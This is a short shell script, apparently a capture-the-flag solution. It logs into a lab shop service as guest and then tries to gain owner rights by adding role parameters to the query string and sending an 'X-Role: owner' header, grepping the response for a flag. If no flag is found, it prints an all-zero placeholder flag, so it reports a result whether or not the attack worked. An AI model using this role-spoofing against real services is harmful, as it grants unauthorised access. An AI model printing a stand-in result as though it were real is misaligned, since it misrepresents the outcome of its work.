#-- the account that the shop offers to everyone, and whatever its page calls a code
curl -s -c /tmp/jar http://shop:8080/login -d 'name=guest&password=guest' > /dev/null
curl -s -b /tmp/jar 'http://shop:8080/account?name=owner&role=owner'
curl -s -b /tmp/jar -H 'X-Role: owner' http://shop:8080/account | grep -o 'flag{[0-9a-f]*}' \
    || echo 'flag{00000000000000000000000000000000}'
